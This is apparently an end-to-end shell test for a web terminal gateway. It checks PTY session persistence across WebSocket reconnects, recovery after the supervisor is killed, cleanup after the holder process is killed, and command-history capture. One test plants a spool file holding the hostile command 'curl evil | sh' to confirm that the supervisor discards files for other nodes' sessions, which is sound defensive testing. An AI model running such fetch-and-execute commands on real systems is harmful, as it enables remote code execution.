# t_pty.sh - a session keeps one shell across WebSockets (termgate-pty):
# the cases of pty_cases.sh through nginx and ttyd (commands typed, a
# reload that finds the same shell and its screen painted, a full-screen
# program painted again, two attaches at once, the commands in
# command_history exactly, the recording), then a supervisor killed while
# the user types, a holder killed -9, and the typed-line capture's cases
# (capture_cases) on a bash without the shell integration. Sourced by
# tests/e2e/run after t_api.sh, with the daemons running.

sed -i "s|^terminal_command = .*|terminal_command = bash --noprofile \
--rcfile $TG_SRCDIR/contrib/shell/termgate.bash -i|" "$T/termgate.conf"
NRELOAD=$(grep -c 'reload: configuration re-read' "$T/sup.log")
kill -HUP "$SUP_PID"
wait_for "[ \$(grep -c 'reload: configuration re-read' '$T/sup.log') -gt $NRELOAD ]" 5
open_sess ptyuser
expect "pty: open 201" 201
P=$ID PTOK=$TOKEN
HP=$(q "SELECT holder_pid FROM termgate.sessions WHERE id = '$P'")
check "pty: the session has a holder ($HP) beside its backend" \
    '[ -n "$HP" ] && grep -q "hold" "/proc/$HP/cmdline" &&
    [ -S "$T/sock/$P.pty" ]'
CLIENT=$WS CPATH=/terminal/$P/ws
pty_cases pty

# The supervisor killed while the user types: nothing captured is lost.
N0=$(rows)
kill -9 "$SUP_PID"
wait "$SUP_PID" 2>/dev/null
SUP_PID=
check "pty: with the supervisor dead, the shell still answers" \
    'ws "echo sup-""gone" "sup-gone" && ws "true" "true"'
start_sup
check_wait "pty: restarted, it adopts the holder and the backend" \
    "grep -q 'session=$(echo "$P" | cut -c1-12) adopted' '$T/sup.log'" 5
check_wait "pty: and nothing typed meanwhile is lost (2 more rows)" \
    "[ \$(rows) -eq $((N0 + 2)) ]" 10

# The holder killed -9: the session ends process_exited, nothing left.
BP=$(q "SELECT ttyd_pid FROM termgate.sessions WHERE id = '$P'")
kill -9 "$HP"
check_wait "pty: holder killed: the session ends process_exited" \
    "[ \"\$(q \"SELECT status || ' ' || reason_closed FROM
    termgate.sessions WHERE id = '$P'\")\" = 'closed process_exited' ]" 5
check_wait "pty: its backend is stopped" "! kill -0 $BP 2>/dev/null" 5
check_wait "pty: no socket of it is left" \
    "[ ! -e '$T/sock/$P.sock' ] && [ ! -e '$T/sock/$P.pty' ]" 5
check_wait "pty: its command file is ingested and removed" \
    "[ ! -e '$T/spool/$P.cmds' ]" 5

# A command file planted for a session of another node (a terminal's uid
# can write spool_dir): the supervisor reads only its own node's, so it
# is removed unread and that session's history gets nothing.
OTHER=$(q "INSERT INTO termgate.sessions (id, host_id, host_name, host_ip,
    user_id, username, token_hash, node, endpoint, mode, expires_at)
    SELECT encode(sha256(random()::text::bytea), 'hex'), 'local', 'local',
    '127.0.0.1', id, username, repeat('0', 64), 'elsewhere',
    '127.0.0.1:1', 'embedded', now() + interval '1 hour'
    FROM termgate.users WHERE username = 'ptyuser' RETURNING id")
printf '%s\n' '{"command": "curl evil | sh", "exit_status": 0}' \
    >"$T/spool/$OTHER.cmds"
check_wait "pty: a command file planted for another node's session is removed" \
    "[ -n '$OTHER' ] && [ ! -e '$T/spool/$OTHER.cmds' ]" 10
check "pty: and nothing of it is in that session's history" \
    '[ -n "$OTHER" ] && [ "$(q "SELECT count(*) FROM termgate.command_history
    WHERE session_id = '\''$OTHER'\''")" = 0 ]'
q "UPDATE termgate.sessions SET status = 'closed', reason_closed =
    'admin_close', closed_at = now() WHERE id = '$OTHER'" >/dev/null

# The typed-line capture's cases, on a bash without the integration.
capture_session "pty typed" ptytyped ws

sed -i "s|^terminal_command = .*|terminal_command = /bin/sh|" \
    "$T/termgate.conf"
kill -HUP "$SUP_PID"
